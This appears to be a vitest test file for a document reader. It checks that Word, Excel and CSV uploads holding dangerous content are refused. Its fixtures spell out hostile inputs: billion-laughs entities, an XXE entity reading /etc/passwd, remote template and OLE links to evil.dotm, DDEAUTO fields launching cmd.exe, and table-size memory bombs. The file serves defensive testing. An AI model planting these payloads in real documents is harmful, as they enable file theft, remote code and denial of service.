import { describe, expect, test } from 'vitest';
import { buildDocx, type DocxBlock } from '../builders/docx.ts';
import { buildXlsx } from '../builders/xlsx.ts';
import { relationshipsXml } from '../builders/xml.ts';
import { bytesOf, refusalOf } from '../documents/reading.ts';

const table: DocxBlock = { kind: 'table', rows: [{ cells: ['1/5/12', 'Seen'] }] };

describe('XML that builds or fetches text is refused before it does', () => {
  const laughs = `<!DOCTYPE w [<!ENTITY a "ha">${'bcdefghij'
    .split('')
    .map((name, place) => `<!ENTITY ${name} "${`&${'abcdefghij'.charAt(place)};`.repeat(10)}">`)
    .join('')}]>`;
  test.each<[string, Uint8Array]>([
    [
      'a billion laughs',
      buildDocx([table], { prologue: laughs, bodyXml: '<w:p><w:r><w:t>&j;</w:t></w:r></w:p>' }),
    ],
    [
      'a file of this computer',
      buildDocx([table], { prologue: '<!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]>' }),
    ],
    [
      'a definition from the network',
      buildDocx([table], { prologue: '<!DOCTYPE w SYSTEM "http://example.org/x.dtd">' }),
    ],
    [
      'a parameter entity',
      buildDocx([table], { prologue: '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://example.org/p"> %p;]>' }),
    ],
    [
      'an entity that nobody declared',
      buildDocx([table], { bodyXml: '<w:p><w:r><w:t>&secret;</w:t></w:r></w:p>' }),
    ],
    ['elements inside each other without end', buildDocx([table], { bodyXml: '<w:sdt>'.repeat(100_000) })],
  ])('%s', (_, bytes) => {
    expect(refusalOf('health.docx', bytes).code).toBe('xml-unsafe');
  });

  test.each<[string, Uint8Array]>([
    ['an element that is never closed', buildDocx([table], { bodyXml: '<w:p>' })],
    ['an element that another closes', buildDocx([table], { bodyXml: '<w:p><w:r></w:p></w:r>' })],
    ['a bare ampersand', buildDocx([table], { bodyXml: '<w:p><w:r><w:t>A & E</w:t></w:r></w:p>' })],
  ])('XML that is not well formed is told as damage: %s', (_, bytes) => {
    expect(['file-damaged', 'xml-unsafe']).toContain(refusalOf('health.docx', bytes).code);
  });
});

describe('what would be fetched on opening is refused, and named', () => {
  test.each([
    ['attachedTemplate', 'https://example.org/evil.dotm'],
    ['attachedTemplate', '\\\\server\\share\\evil.dotm'],
    ['attachedTemplate', 'file://server/share/evil.dotm'],
    ['attachedTemplate', 'file:///\\\\server\\share\\evil.dotm'],
    ['oleObject', 'https://example.org/evil.rtf'],
    ['oleObject', 'mhtml:https://example.org/evil.html!x-usc:https://example.org/evil.html'],
    ['image', 'https://example.org/seen.png'],
    ['frame', 'https://example.org/page.html'],
    ['subDocument', 'file:///C:/other.docx'],
    ['aFChunk', 'https://example.org/chunk.html'],
  ])('%s %s', (type, target) => {
    const relationships = [{ id: 'rIdEvil', type, target, external: true }];
    const error = refusalOf('health.docx', buildDocx([table], { relationships }));
    expect(error.code).toBe('external-content');
    expect(error.words.what).toContain(target);
  });

  test.each([
    ['DDEAUTO', 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'],
    ['DDE', ' dde excel "a"'],
    ['INCLUDETEXT', 'INCLUDETEXT "https://example.org/a.docx"'],
    ['INCLUDEPICTURE', 'INCLUDEPICTURE "\\\\\\\\server\\\\share\\\\a.png" \\\\d'],
  ])('the field %s', (_, field) => {
    for (const fieldForm of ['simple', 'complex'] as const) {
      const rows = [{ cells: [{ runs: [{ text: 'result', field, fieldForm }] }] }];
      expect(refusalOf('health.docx', buildDocx([{ kind: 'table', rows }])).code).toBe('external-content');
    }
  });

  test('a workbook’s link to another program', () => {
    const data =
      '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="calc"/></externalLink>';
    const bytes = buildXlsx({
      sheets: [{ name: 'Chronology', rows: [['Seen']] }],
      relationships: [{ id: 'rIdLink', type: 'externalLink', target: 'externalLinks/externalLink1.xml' }],
      extraEntries: [{ name: 'xl/externalLinks/externalLink1.xml', data }],
    });
    expect(refusalOf('police.xlsx', bytes).code).toBe('external-content');
  });

  test('a workbook’s picture from the network', () => {
    const data = relationshipsXml([
      { id: 'r1', type: 'image', target: 'http://example.org/a.png', external: true },
    ]);
    const extraEntries = [{ name: 'xl/drawings/_rels/drawing1.xml.rels', data }];
    const bytes = buildXlsx({ sheets: [{ name: 'Chronology', rows: [['Seen']] }], extraEntries });
    expect(refusalOf('police.xlsx', bytes).code).toBe('external-content');
  });
});

describe('a table beyond the limits is refused before it takes the memory', () => {
  const wide = Array.from({ length: 1_025 }, (_, place) => String(place));
  test.each<[string, string, Uint8Array]>([
    ['a CSV line of a million cells', 'a.csv', bytesOf(`Date${','.repeat(1_000_000)}`)],
    [
      'a Word cell over a billion columns',
      'a.docx',
      buildDocx([{ kind: 'table', rows: [{ cells: [] }] }], {
        bodyXml:
          '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
      }),
    ],
    [
      'a Word row that begins in column one billion',
      'a.docx',
      buildDocx([], {
        bodyXml: '<w:tbl><w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr></w:tr></w:tbl>',
      }),
    ],
    ['a Word row of 1,025 cells', 'a.docx', buildDocx([{ kind: 'table', rows: [{ cells: wide }] }])],
    ['an Excel row of 1,025 cells', 'a.xlsx', buildXlsx({ sheets: [{ name: 'A', rows: [wide] }] })],
    [
      'an Excel cell in column one million',
      'a.xlsx',
      buildXlsx({
        sheets: [{ name: 'A', rows: [], rowsXml: '<row r="1"><c r="BDWGO1"><v>1</v></c></row>' }],
      }),
    ],
  ])('%s', (_, name, bytes) => {
    expect(refusalOf(name, bytes).code).toBe('too-many-columns');
  });

  const rows = Array.from({ length: 101 }, (_, place) => [`${place}`, 'Seen']);
  test.each<[string, Uint8Array]>([
    ['a.csv', bytesOf(rows.map((row) => row.join(',')).join('\n'))],
    ['a.docx', buildDocx([{ kind: 'table', rows: rows.map((cells) => ({ cells })) }])],
    ['a.xlsx', buildXlsx({ sheets: [{ name: 'A', rows }] })],
  ])('too many rows, and too many cells: %s', (name, bytes) => {
    expect(refusalOf(name, bytes, { rows: 100 }).code).toBe('too-many-rows');
    expect(refusalOf(name, bytes, { cells: 201 }).code).toBe('too-many-rows');
  });

  test('a few rows of which one is very wide do not make a rectangle of empty cells', () => {
    const lists = Array.from({ length: 60 }, (): string[] => ['a']);
    const bytes = buildXlsx({ sheets: [{ name: 'A', rows: [...lists, wide.slice(0, 1_000)] }] });
    expect(refusalOf('a.xlsx', bytes, { cells: 50_000 }).code).toBe('too-many-rows');
  });

  test('merged areas that cover the whole sheet again and again', () => {
    const merges = Array.from({ length: 1_000 }, () => 'A1:XFD1048576');
    const bytes = buildXlsx({ sheets: [{ name: 'A', rows, merges }] });
    expect(refusalOf('a.xlsx', bytes, { cells: 100_000 }).code).toBe('too-many-rows');
  });
});

test('a workbook whose cell points to a text that is not there is damaged', () => {
  const rowsXml = '<row r="1"><c r="A1" t="s"><v>99</v></c></row>';
  expect(refusalOf('a.xlsx', buildXlsx({ sheets: [{ name: 'A', rows: [], rowsXml }] })).code).toBe(
    'file-damaged',
  );
});
